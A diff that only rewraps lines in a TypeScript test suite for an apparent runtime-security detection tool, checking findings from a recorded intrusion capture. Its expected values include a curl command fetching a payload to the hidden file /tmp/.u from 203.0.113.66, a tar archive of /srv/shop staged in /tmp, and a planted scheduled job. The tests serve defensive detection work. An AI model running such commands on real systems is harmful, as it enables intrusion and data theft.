@@ -40,7 +40,9 @@ describe('the incident', () => {
       ['Program removes itself', '.u', 1],
     ]);
     expect(
-      plain.report.rules.filter(({ state }) => state !== 'matched').map(({ rule, state }) => [rule.name, state]),
+      plain.report.rules
+        .filter(({ state }) => state !== 'matched')
+        .map(({ rule, state }) => [rule.name, state]),
     ).toEqual([
       ['Kernel module is loaded', 'unmatched'],
       ['Known command server is contacted', 'unevaluated'],
@@ -50,7 +52,11 @@ describe('the incident', () => {
   it('shows processes, commands, files and connections', () => {
     const named = (name: string) => plain.findings.find(({ rule }) => rule === name);
     const archive = named('Archive is made for a program of temporary files')?.process;
-    expect(archive).toMatchObject({ cmdline: 'tar -cf /tmp/.d /srv/shop', exepath: '/usr/bin/tar', cwd: '/' });
+    expect(archive).toMatchObject({
+      cmdline: 'tar -cf /tmp/.d /srv/shop',
+      exepath: '/usr/bin/tar',
+      cwd: '/',
+    });
     expect(archive?.ancestors.map(({ name, exepath }) => [name, exepath])).toEqual([
       ['.u', '/tmp/.u'],
       ['sh', '/bin/sh'],
@@ -60,7 +66,11 @@ describe('the incident', () => {
     ]);
     expect(named('Web server downloads from outside')).toMatchObject({
       process: { cmdline: 'curl -so /tmp/.u http://203.0.113.66/u', uid: 65534 },
-      connection: { protocol: 'tcp', client: { ip: '10.0.0.7' }, server: { ip: '203.0.113.66', port: 80 } },
+      connection: {
+        protocol: 'tcp',
+        client: { ip: '10.0.0.7' },
+        server: { ip: '203.0.113.66', port: 80 },
+      },
       container: { id: '7d1c0a9be442' },
     });
     expect(named('Scheduled job is written')).toMatchObject({
@@ -73,10 +83,15 @@ describe('the incident', () => {
     const ids = plain.findings.map(({ id }) => id);
     expect(new Set(ids).size).toBe(ids.length);
     expect((await found()).findings).toEqual(plain.findings);
-    expect((await found({ evidence: 1, suppress, today: '2026-11-29' })).findings.map(({ id }) => id)).toEqual(ids);
+    expect(
+      (await found({ evidence: 1, suppress, today: '2026-11-29' })).findings.map(({ id }) => id),
+    ).toEqual(ids);
     const all = (await found({ all: true })).findings.filter(({ rule }) => rule.startsWith('Data'));
     const first = plain.findings.find(({ rule }) => rule.startsWith('Data'))?.id;
-    expect(all.map(({ id }) => id)).toEqual([first, ...[2, 3, 4, 5, 6, 7].map((nth) => `${first}-${nth}`)]);
+    expect(all.map(({ id }) => id)).toEqual([
+      first,
+      ...[2, 3, 4, 5, 6, 7].map((nth) => `${first}-${nth}`),
+    ]);
   });
 
   it('has the events of the thread around each finding', async () => {
@@ -96,7 +111,12 @@ describe('the incident', () => {
       expect(evidence?.length).toBeLessThanOrEqual(5);
     }
     const start = findings.find(({ rule }) => rule.startsWith('Program runs'));
-    expect(start?.evidence?.map(({ eventType }) => eventType)).toEqual(['clone', 'execve', 'openat', 'read']);
+    expect(start?.evidence?.map(({ eventType }) => eventType)).toEqual([
+      'clone',
+      'execve',
+      'openat',
+      'read',
+    ]);
   });
 
   it('has all events of a thread if evidence is large enough, and the same with --all', async () => {
@@ -108,34 +128,49 @@ describe('the incident', () => {
 
   it('can be suppressed in part', async () => {
     const { findings } = await found({ suppress, today: '2030-12-31' });
-    expect(findings.filter(({ suppression }) => suppression !== undefined).map(({ process }) => process?.name)).toEqual(
-      ['backup'],
-    );
+    expect(
+      findings
+        .filter(({ suppression }) => suppression !== undefined)
+        .map(({ process }) => process?.name),
+    ).toEqual(['backup']);
     const expired = await found({ suppress, today: '2031-01-01' });
     expect(expired.findings).toEqual(plain.findings);
   });
 
   it('gets evidence only for unsuppressed findings', async () => {
     const { findings } = await found({ suppress, today: '2030-12-31', evidence: 1 });
-    expect(findings.filter(({ evidence }) => evidence === undefined).map(({ process }) => process?.name)).toEqual([
-      'backup',
-    ]);
+    expect(
+      findings.filter(({ evidence }) => evidence === undefined).map(({ process }) => process?.name),
+    ).toEqual(['backup']);
   });
 
   it.each([-1, 1.5, 1001])('rejects evidence of %s events', (evidence) => {
-    expect(() => check(capture, { rules, evidence })).toThrow('expected a whole number from 0 to 1000');
+    expect(() => check(capture, { rules, evidence })).toThrow(
+      'expected a whole number from 0 to 1000',
+    );
   });
 
   it('needs a capture that can be read twice', () => {
-    expect(() => check('-', { rules: readRules(rules), evidence: 1 })).toThrow('standard input can be read only once');
+    expect(() => check('-', { rules: readRules(rules), evidence: 1 })).toThrow(
+      'standard input can be read only once',
+    );
   });
 });
 
 it('was recorded, and contains no facts about the recording machine', () => {
   const sfkit = (...args: string[]) =>
-    execFileSync(process.execPath, [join(root, 'bin/run.js'), ...args], { encoding: 'utf8', stdio: 'pipe' });
+    execFileSync(process.execPath, [join(root, 'bin/run.js'), ...args], {
+      encoding: 'utf8',
+      stdio: 'pipe',
+    });
   const [info] = JSON.parse(sfkit('info', capture, '--json'));
-  expect(info).toMatchObject({ hostname: 'shop-host', bootTime: null, threads: 0, descriptors: 0, users: 2 });
+  expect(info).toMatchObject({
+    hostname: 'shop-host',
+    bootTime: null,
+    threads: 0,
+    descriptors: 0,
+    users: 2,
+  });
   const programs = sfkit('events', capture, '--filter', 'evt.type = execve', '-p', '%evt.arg.env');
   expect(programs.trimEnd().split('\n')).toEqual(Array(10).fill('PATH=/usr/bin:/bin LANG=C.UTF-8'));
   const directories = /^\/(bin|etc|root|sbin|srv|tmp|usr|var)\/[a-z./_]+$/;
